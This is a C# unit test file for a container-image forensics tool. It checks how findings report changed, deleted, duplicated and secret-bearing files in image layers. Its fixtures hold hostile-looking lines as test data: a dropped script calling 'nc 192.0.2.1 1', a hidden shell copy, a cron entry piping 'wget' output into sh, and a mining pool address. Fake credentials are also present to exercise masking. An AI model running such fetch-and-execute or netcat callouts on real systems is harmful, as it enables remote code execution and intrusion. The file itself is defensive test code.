using StoreForensics.Evidence;
using StoreForensics.Findings.Contents;
using StoreForensics.Findings.Indicators;
using StoreForensics.Model;
using StoreForensics.Primitives;
using StoreForensics.Reports.Text;
using StoreForensics.Tests.Views;

namespace StoreForensics.Tests.Findings.Contents;

/// <summary>What a finding's file holds and held, and where else its bytes are.</summary>
public sealed class ContentTellerTests
{
    private const string Shell = "\u007fELF\u0002\u0001 a shell with enough bytes\0connection lost\0";

    private readonly Layer _base = new TestLayer("base").File("etc/rc", "start\nserve\n").File("bin/sh", Shell).File("var/log/auth.log", "Accepted\n").Over(null);
    private readonly Layer _middle;
    private readonly Layer _top;
    private readonly Inventory _inventory = new();

    public ContentTellerTests()
    {
        _middle = new TestLayer("middle").File("opt/drop", "#!/bin/sh\nnc 192.0.2.1 1\n").Over(_base);
        _top = new TestLayer("top").File("etc/rc", "start\nserve\nPASSWORD=hunter2 evil\n").File("usr/bin/.sh", Shell).File("srv/x", "#!/bin/sh\nnc 192.0.2.1 1\n")
            .Whiteout("var/log/auth.log").Over(_middle);
        _inventory.Layers.AddRange([_base, _middle, _top]);
    }

    [Test]
    public void A_changed_text_shows_the_difference()
    {
        FindingContent content = Told("etc/rc", below: new EntryRef(_base.Files!.Source, At(_base, "etc/rc")));
        Assert.Multiple(() =>
        {
            Assert.That(content.Difference, Is.EqualTo("@@ -1,2 +1,3 @@\n start\n serve\n+PASSWORD=hunter2 evil\n"));
            Assert.That(content.Before, Is.EqualTo(new FileGlance("text", 12, null)), "below 16 bytes nothing is digested");
            Assert.That(content.After!.Sha256, Has.Length.EqualTo(64));
            Assert.That(string.Join('\n', ContentText.Lines(content, new SecretMask(show: false))), Does.Not.Contain("hunter2").And.Contain("+PASSWORD="));
            Assert.That(ContentText.Masked(content, new SecretMask(show: false))!.Difference, Does.Not.Contain("hunter2"));
        });
    }

    [Test]
    public void Of_what_is_gone_what_it_held()
    {
        FindingContent content = Told("var/log/auth.log", isOfAbsence: true, below: new EntryRef(_base.Files!.Source, At(_base, "var/log/auth.log")));
        Assert.That(content.After, Is.Null);
        Assert.That(content.Difference, Is.EqualTo("@@ -1 +0,0 @@\n-Accepted\n"));
        Assert.That(ContentText.Glances(content), Is.EqualTo("was text, 9 bytes"));
    }

    [Test]
    public void A_program_shows_its_texts_and_the_stock_that_it_is_a_copy_of()
    {
        FindingContent content = Told("usr/bin/.sh");
        Assert.That(content.Strings, Is.EqualTo(new[] { "connection lost" }));
        Assert.That(content.Elsewhere, Is.EqualTo(new[] { "a layer of no image (base):/bin/sh" }));
        Assert.That(content.Difference, Is.Empty);
    }

    [Test]
    public void The_same_bytes_in_another_layer_are_named()
    {
        Assert.That(Told("srv/x").Elsewhere, Is.EqualTo(new[] { "a layer of no image (middle):/opt/drop" }));
        Assert.That(Told("etc/rc").Elsewhere, Is.Empty);
    }

    [Test]
    public void What_is_low_or_about_no_file_has_none() => Assert.That(
        Tell(Of("srv/x") with { Severity = FindingSeverity.Low }, Of("srv/x") with { Path = null }).Select(f => f.Content), Is.All.Null);

    [Test]
    public void A_long_text_is_cut_at_a_line()
    {
        Layer layer = new TestLayer("long").File("x", string.Concat(Enumerable.Repeat("a line of some length\n", 5000))).Over(_top);
        FindingContent content = Tell(Of("x", layer)).Single().Content!;
        Assert.That(content.IsCut, Is.True);
        Assert.That(content.Difference, Has.Length.LessThanOrEqualTo(4096).And.EndsWith("length\n"));
        Assert.That(ContentText.Lines(content, new SecretMask(show: false)).Last(), Is.EqualTo("…"));
    }

    [TestCase("secret-file", "hunter2\n", true)]
    [TestCase("file-hidden", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n", true)]
    [TestCase("file-hidden", "an ordinary text\n", false)]
    public void A_file_that_is_a_secret_is_not_shown(string rule, string text, bool isSecret)
    {
        Layer layer = new TestLayer("keys").File("k", text).Over(_top);
        // Whichever finding names it.
        FindingContent content = Tell(Of("k", layer), Of("k", layer) with { Rule = rule })[0].Content!;
        Assert.That(content.IsSecret, Is.EqualTo(isSecret));
        string shown = string.Concat(ContentText.Lines(content, new SecretMask(show: false)));
        Assert.That(shown.Contains(text.Trim(), StringComparison.Ordinal), Is.EqualTo(!isSecret));
        Assert.That(ContentText.Masked(content, new SecretMask(show: false))!.Difference, isSecret ? Is.Empty : Is.Not.Empty);
        Assert.That(string.Join('\n', ContentText.Lines(content, new SecretMask(show: true))), Does.Contain(text.Split('\n')[0]));
    }

    [TestCase("+eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2ln", "+•••• (41 characters)")]
    [TestCase("root:$6$salt$hash/x.:19000:0", "root:•••• (15 characters):19000:0")]
    [TestCase("  \"db_password\": \"s3cret\",", "  \"db_password\": •••• (8 characters),")]
    [TestCase("apiToken: abc", "apiToken: •••• (3 characters)")]
    [TestCase("aws AKIAABCDEFGHIJKLMNOP", "aws •••• (20 characters)")]
    [TestCase("pool: 198.51.100.7:3333", "pool: 198.51.100.7:3333")]
    [TestCase("root:x:0:0:root:/root:/bin/sh", "root:x:0:0:root:/root:/bin/sh")]
    [TestCase("*/5 * * * * wget http://h/p|sh", "*/5 * * * * wget http://h/p|sh")]
    public void Secrets_are_known_by_their_form(string line, string shown) =>
        Assert.That(ContentMask.Line(line, new SecretMask(show: false)), Is.EqualTo(shown));

    private FindingContent Told(string path, bool isOfAbsence = false, EntryRef? below = null) =>
        Tell(Of(path, _top, below) with { IsOfAbsence = isOfAbsence }).Single().Content!;

    private IReadOnlyList<Finding> Tell(params Finding[] findings)
    {
        var problems = new ProblemLog();
        var digests = new FindingDigests(_inventory, findings, problems);
        IReadOnlyList<Finding> told = new ContentTeller(digests, new SameBytesElsewhere(_inventory, findings, digests), problems).Tell(findings);
        Assert.That(problems.Sorted(), Is.Empty);
        return told;
    }

    private Finding Of(string path, Layer? layer = null, EntryRef? below = null) => new()
    {
        Rule = "file-hidden",
        Severity = FindingSeverity.High,
        Confidence = FindingConfidence.High,
        Title = "t",
        Reason = "r",
        Attack = [],
        Next = "",
        Subjects = [],
        Path = path,
        Origins = [new Origin("test", path)],
        Entries = [new FindingEntry((layer ?? _top).Files!.Source, At(layer ?? _top, path), Below: below)],
    };

    private static int At(Layer layer, string path) => layer.Files!.Tree.Find(layer.Files.Root, TestLayer.Bytes(path));
}
